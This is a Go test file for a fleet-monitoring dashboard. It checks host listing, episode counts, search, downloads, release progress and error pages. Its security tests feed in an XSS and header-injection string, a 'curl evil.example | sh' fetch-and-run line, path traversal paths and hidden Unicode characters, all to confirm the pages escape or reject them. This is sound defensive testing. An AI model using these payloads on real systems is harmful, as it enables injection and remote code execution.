package web_test

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"cis490/internal/check"
	"cis490/internal/ident"
	"cis490/internal/manifest"
	"cis490/internal/wire"
	"cis490/receiver"
	"cis490/receiver/contacts"
	"cis490/receiver/fleet"
	"cis490/receiver/local"
	"cis490/receiver/roster"
)

// evil is what a host would send to be more than text.
const evil = `<script>alert(1)</script>"'><img src=x onerror=alert(2)>{{.}}` + "\r\nX-Evil: 1\x00\x1b[31m"

// hostileFleet is a host that sends a text in every field that it controls.
func hostileFleet(t *testing.T, evil string) *harness {
	t.Helper()
	r := newHarness(t)
	long := evil + strings.Repeat("A", 100_000)
	knock := contacts.AuthFailure{At: r.now, Since: r.now, Count: 3, Kind: wire.Kind(evil), Name: long, From: long, Detail: long}
	r.book.UnknownClients = []contacts.AuthFailure{knock}
	r.book.Hosts["lab-01"] = &contacts.Contact{
		Hardware:    &wire.Hardware{CPU: long, Kernel: long, Distribution: long, Architecture: long, Virtualization: long, RAM: -1},
		LastContact: r.now, LastPing: r.now, From: long, Version: long, Commit: ident.Commit(evil), Failing: []string{long}, Serial: long,
		Boots: []contacts.Boot{{ID: long}}, LastRefused: &contacts.Refused{At: r.now, Status: 400, Kind: wire.Kind(evil), Detail: long},
		Verified: []contacts.AuthFailure{knock}, Unverified: []contacts.AuthFailure{knock},
	}
	a := fleet.Alert{
		At:      r.now,
		Host:    "lab-01",
		Symptom: "silent",
		State:   fleet.Firing,
		Since:   r.now,
		Detail:  long,
		Reason:  long,
		Fix:     "on lab-01: " + evil,
	}
	r.alerts(a)
	r.write(local.AlertsFile, r.json(a))
	long = evil + strings.Repeat("A", 5000)
	rep := check.Report{Version: long, Checks: []check.Row{
		{ID: long, Title: long, Status: check.Fail, Detail: long, Fix: "on the lab host: curl evil.example | sh"},
		{ID: "outbox.oldest", Title: long, Status: check.Fail, Detail: long, Fix: "on the lab host: curl evil.example | sh"},
	}}
	r.write("host-health/lab-01.json", r.json(contacts.Snapshot{Host: "lab-01", ReceivedAt: r.now, Snapshot: rep}))
	return r
}

// Every field that a host controls is shown as text, and capped.
func TestPages_HostileText(t *testing.T) {
	r := hostileFleet(t, evil)
	r.start().signIn()
	for _, path := range []string{
		"/", "/hosts/lab-01", "/?q=" + "%3Cscript%3Ealert(1)%3C/script%3E",
		"/episodes?host=%3Cscript%3Ealert(1)%3C/script%3E&q=%22onload=", "/hosts/%3Cscript%3E",
	} {
		got := r.get(path)
		for _, bad := range []string{"<script>", "<img src=x", "\x1b", "\x00", "evil.example"} {
			if strings.Contains(got.body, bad) {
				t.Errorf("%s holds %q", path, bad)
			}
		}
		if got.header.Get("X-Evil") != "" || len(got.body) > 40_000 {
			t.Errorf("%s: %d bytes, %v", path, len(got.body), got.header)
		}
		if got.status == http.StatusOK && path != "/episodes" && !strings.Contains(got.body, "&lt;script&gt;") {
			t.Errorf("%s does not show the text:\n%s", path, got.body)
		}
	}
	if page := r.get("/hosts/lab-01").body; !strings.Contains(page, "<code>sudo cis490 ship --once</code>") ||
		!strings.Contains(page, "Outbox empties") {
		t.Errorf("the fix is not the receiver's own:\n%s", page)
	}
}

func TestFleet_SickFirstAndFiltered(t *testing.T) {
	r := newHarness(t)
	for i, name := range []ident.Host{"lab-01", "lab-02", "lab-03", "lab-04", "lab-05", "lab-06"} {
		st := []roster.State{roster.Active, roster.Active, roster.Pending, roster.Gone, roster.Active, roster.Active}[i]
		r.hosts = append(r.hosts, roster.Host{Name: name, State: st, CertExpires: r.now.Add(10 * 24 * time.Hour)})
	}
	r.book.Hosts["lab-01"] = &contacts.Contact{LastContact: r.now, Version: "1.0.0"}
	r.book.Hosts["lab-02"] = &contacts.Contact{LastContact: r.now.Add(-time.Hour), Version: "0.9.0"}
	r.book.Hosts["lab-05"] = &contacts.Contact{LastContact: r.now, Leaving: true}
	r.book.Hosts["lab-06"] = &contacts.Contact{LastContact: r.now.Add(-20 * time.Minute)}
	r.alerts(
		fleet.Alert{
			Host:    "lab-02",
			Symptom: "silent",
			Since:   r.now.Add(-time.Hour),
			Reason:  "its clock is off",
			Fix:     "on lab-02: sudo timedatectl set-ntp true",
		},
	)
	r.start().signIn()
	order := func(path string) string {
		t.Helper()
		var names []string
		for _, m := range regexp.MustCompile(`<th scope="row"><a href="/hosts/([^"]+)"`).FindAllStringSubmatch(r.get(path).body, -1) {
			names = append(names, m[1])
		}
		return strings.Join(names, " ")
	}
	for path, want := range map[string]string{
		"/": "lab-02 lab-06 lab-01 lab-05 lab-03", "/?state=sick": "lab-02", "/?state=decommissioned": "lab-04",
		"/?q=LAB-01": "lab-01", "/?q=clock": "lab-02", "/?q=0.9": "lab-02", "/?q=none": "", "/?state=nonsense": "",
		"/?from=3": "lab-05 lab-03", "/?from=99999999999999999999": "lab-02 lab-06 lab-01 lab-05 lab-03",
		"/?from=-5": "lab-02 lab-06 lab-01 lab-05 lab-03",
	} {
		if got := order(path); got != want {
			t.Errorf("%s: %s, want %s", path, got, want)
		}
	}
	page := r.get("/").body
	for _, want := range []string{"1 open alert", "on lab-02", "<code>sudo timedatectl set-ntp true</code>", "10 d"} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q", want)
		}
	}
}

// A clock that was ahead for a while hides no hour, and what came then counts as now.
func TestFleet_CountsAfterTheClockWasAhead(t *testing.T) {
	r := newHarness(t)
	r.alerts()
	r.write("index.jsonl", r.json(r.row("lab-01", 1, 2*time.Hour))+r.json(r.row("lab-01", 2, -40*24*time.Hour)))
	r.start()
	sum := func() string {
		r.follow()
		return regexp.MustCompile(`\d+ episodes, [^<]+ in 24 h`).FindString(r.signIn().get("/").body)
	}
	right := r.now
	r.now = right.Add(40 * 24 * time.Hour)
	if got := sum(); got != "1 episodes, 1000 B in 24 h" {
		t.Errorf("while it is ahead: %q", got)
	}
	r.now = right
	if got := sum(); got != "2 episodes, 2.0 KiB in 24 h" {
		t.Errorf("set right: %q", got)
	}
	r.now = right.Add(23 * time.Hour)
	if got := sum(); got != "1 episodes, 1000 B in 24 h" {
		t.Errorf("when the first is a day old: %q", got)
	}
}

// The last 24 hours are counted as the index grows, and leave as hours pass.
func TestFleet_CountsAsTheIndexGrows(t *testing.T) {
	r := newHarness(t)
	r.alerts()
	r.start().signIn()
	var file strings.Builder
	add := func(rows ...receiver.Entry) {
		for _, row := range rows {
			file.WriteString(r.json(row))
		}
		r.write(local.IndexFile, file.String())
		r.follow()
		r.now = r.now.Add(2 * time.Second) // past the kept model
	}
	sum := func() string {
		t.Helper()
		return regexp.MustCompile(`\d+ episodes, [^<]+ in 24 h`).FindString(r.get("/").body)
	}
	old, archived := r.row("lab-01", 1, 30*time.Hour), r.row("lab-02", 2, 3*time.Hour)
	archived.Archived = true
	add(old, archived, r.row("lab-01", 3, 2*time.Hour), r.row("lab-02", 4, time.Hour))
	if got := sum(); got != "2 episodes, 2.0 KiB in 24 h" {
		t.Errorf("counted %q", got)
	}
	add(r.row("lab-02", 5, 0))
	if got := sum(); got != "3 episodes, 2.9 KiB in 24 h" {
		t.Errorf("counted %q", got)
	}
	if page := r.get("/hosts/lab-02").body; strings.Count(page, `href="/episodes/lab-02/`) != 2 {
		t.Errorf("recent episodes:\n%s", page)
	}
	r.now = r.now.Add(23 * time.Hour)
	add()
	r.signIn()
	if got := sum(); got != "1 episodes, 1000 B in 24 h" {
		t.Errorf("23 hours later: %q", got)
	}
}

func TestEpisodes_SearchAndDownload(t *testing.T) {
	r := newHarness(t)
	r.alerts()
	var file strings.Builder
	const n = 5000
	for i := range n {
		file.WriteString(r.json(r.row(ident.Host(fmt.Sprintf("lab-%02d", i%7)), i, time.Duration(n-i)*time.Minute)))
	}
	r.write(local.IndexFile, file.String())
	first := r.row("lab-00", 0, n*time.Minute)
	r.write(filepath.Join("episodes", "lab-00", string(first.Episode)+".tar.zst"), "tarball")
	r.start().signIn()
	count := func(path string) int { t.Helper(); return strings.Count(r.get(path).body, `<tr><th scope="row">`) }
	for path, want := range map[string]int{
		"/episodes": 100, "/episodes?host=lab-03": 100, "/episodes?host=lab-99": 0,
		"/episodes?q=" + string(first.Episode):             1,
		"/episodes?q=" + strings.Repeat("0", 61) + "137":   1,
		"/episodes?q=cccccc":                               100,
		"/episodes?from=2026-03-01T12:00":                  30,
		"/episodes?from=2026-02-27&until=2026-02-27T00:30": 31,
		"/episodes?q=nonsense":                             0,
		"/episodes?from=yesterday":                         0,
		"/episodes?before=-3":                              0,
	} {
		if got := count(path); got != want {
			t.Errorf("%s: %d rows, want %d", path, got, want)
		}
	}
	seen, path := 0, "/episodes?host=lab-02"
	for range 20 {
		page := r.get(path).body
		seen += strings.Count(page, `<tr><th scope="row">`)
		m := regexp.MustCompile(`href="([^"]+)" rel="next"`).FindStringSubmatch(page)
		if m == nil {
			break
		}
		path = strings.ReplaceAll(m[1], "&amp;", "&")
	}
	if want := n / 7; seen != want && seen != want+1 {
		t.Errorf("all pages have %d rows, want %d", seen, want)
	}
	a := r.get("/episodes/lab-00/" + string(first.Episode) + ".tar.zst")
	if a.status != http.StatusOK || a.body != "tarball" || !strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment") {
		t.Errorf("download: %d %q %v", a.status, a.body, a.header)
	}
	for _, bad := range []string{
		"lab-00/..%2f..%2foperator", "..%2f/x.tar.zst", "lab-00/operator",
		"lab-01/" + string(first.Episode) + ".tar.zst",
	} {
		if a := r.get("/episodes/" + bad); a.status == http.StatusOK || strings.Contains(a.body, "s3cret") {
			t.Errorf("%s: %d", bad, a.status)
		}
	}
}

func TestHost_HistoryIsTurnsNotHours(t *testing.T) {
	r := newHarness(t)
	r.alerts()
	r.hosts = []roster.Host{{Name: "lab-01", State: roster.Active}}
	var file strings.Builder
	since := r.now.Add(-5 * time.Hour)
	for i := 5; i > 1; i-- {
		file.WriteString(
			r.json(
				fleet.Alert{
					At:      r.now.Add(-time.Duration(i) * time.Hour),
					Host:    "lab-01",
					Symptom: "silent",
					State:   fleet.Firing,
					Since:   since,
					Reason:  "why",
				},
			),
		)
		file.WriteString(
			r.json(fleet.Alert{At: r.now.Add(-time.Duration(i) * time.Hour), Host: "lab-02", Symptom: "silent", State: fleet.Firing, Since: since}),
		)
	}
	file.WriteString(r.json(fleet.Alert{At: r.now.Add(-time.Hour), Host: "lab-01", Symptom: "silent", State: fleet.Resolved, Since: since}))
	r.write(local.AlertsFile, file.String())
	r.start().signIn()
	page := r.get("/hosts/lab-01").body
	if strings.Count(page, "<time ") != 1 || !strings.Contains(page, "resolved after 4 h 0 min: why") {
		t.Errorf("history:\n%s", page)
	}
}

func TestReleases_ShowTheirWay(t *testing.T) {
	r := newHarness(t)
	r.alerts()
	r.hosts = []roster.Host{
		{Name: "lab-01", State: roster.Active},
		{Name: "lab-02", State: roster.Active},
		{Name: "lab-03", State: roster.Gone},
	}
	r.start().signIn()
	if page := r.get("/releases"); page.status != http.StatusOK || !strings.Contains(page.body, "No signed release") {
		t.Errorf("%d %s", page.status, page.body)
	}
	r.book.Hosts["lab-01"] = &contacts.Contact{LastContact: r.now, Version: "v2"}
	r.publish(7, "v2")
	r.write("releases/rollout.json", r.json(manifest.Rollout{V: 1, Releases: []*manifest.Progress{{
		Seq: 7, Version: "v2", Commit: ident.Commit(strings.Repeat("d", 40)), Stage: manifest.StageCanary, Since: r.now,
		Canaries: []ident.Host{"lab-01"}, Clean: []ident.Host{"lab-01"}, Reason: evil,
	}}}))
	r.now = r.now.Add(2 * time.Second)
	page := r.get("/releases").body
	for _, want := range []string{
		"2 active hosts", ">v2 <", "canary", `<a href="/hosts/lab-01">`,
		`<td data-is="Runs on">1 <progress max="2" value="1"`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q:\n%s\n%s", want, page, r.log)
		}
	}
	if strings.Contains(page, "<script>") {
		t.Error("the reason is not shown as text")
	}
}

// TestPages_HaveNoHiddenCharacters: what reorders or hides text is shown as what it is.
func TestPages_HaveNoHiddenCharacters(t *testing.T) {
	r := newHarness(t)
	const text = "abc\u202egpj\u2066.\u200b\u061c\u0085\u009b\u00ad\ufeff"
	r.book.Hosts["lab-01"] = &contacts.Contact{
		LastContact: r.now, LastPing: r.now, From: text, Version: text, Commit: ident.Commit(text), Failing: []string{text}, Serial: text,
		Unverified: []contacts.AuthFailure{{At: r.now, Since: r.now, Count: 1, Kind: wire.Kind(text), From: text, Detail: text}},
	}
	r.alerts(
		fleet.Alert{At: r.now, Host: "lab-01", Symptom: "silent", State: fleet.Firing, Since: r.now, Detail: text, Reason: text, Fix: text},
	)
	r.start().signIn()
	for _, path := range []string{"/", "/hosts/lab-01", "/?q=%E2%80%AE", "/episodes?host=%E2%81%A6&q=%C2%9B", "/hosts/%E2%80%AE"} {
		if got := r.get(path); strings.ContainsAny(got.body, text[3:6]+"\u2066\u200b\u061c\u0085\u009b\u00ad\ufeff") {
			t.Errorf("%s holds hidden characters: %q", path, got.body)
		}
	}
}

func TestPages_WhatIsBrokenSaysSo(t *testing.T) {
	r := newHarness(t)
	r.hosts = []roster.Host{{Name: "lab-01", State: roster.Active}}
	r.missing = []string{"gate: not loaded"}
	r.write("host-health/lab-01.json", "{")
	r.start().signIn()
	if page := r.get("/").body; !strings.Contains(page, "gate: not loaded") || strings.Contains(page, "all well") {
		t.Errorf("not ready:\n%s", page)
	}
	if page := r.get("/hosts/lab-01"); page.status != http.StatusOK || !strings.Contains(page.body, "cannot be read") {
		t.Errorf("%d %s", page.status, page.body)
	}
	r.write(receiver.FleetCheckDoc, "{")
	r.now = r.now.Add(2 * time.Second)
	if page := r.get("/"); page.status != http.StatusInternalServerError || strings.Contains(page.body, r.dir) {
		t.Errorf("%d %s", page.status, page.body)
	}
	must(t, os.Remove(filepath.Join(r.dir, "operator")))
	if page := r.get("/"); page.status != http.StatusSeeOther {
		t.Errorf("without a token: %d", page.status)
	}
}

// TestPages_HostsThatDoNotReport: the verdict does not call a fleet well whose hosts are silent,
// before their alert.
func TestPages_HostsThatDoNotReport(t *testing.T) {
	r := newHarness(t)
	r.hosts = []roster.Host{{Name: "lab-01", State: roster.Active}, {Name: "lab-02", State: roster.Active}}
	r.book.Hosts["lab-02"] = &contacts.Contact{LastContact: r.now.Add(-20 * time.Minute)}
	r.start().signIn()
	page := r.get("/").body
	for _, want := range []string{"2 not reporting</span>", "an alert follows 30 min after the last episode", "it runs every 5 minutes"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q:\n%s", want, page)
		}
	}
	if strings.Contains(page, "all well") {
		t.Errorf("the page says all well:\n%s", page)
	}
}
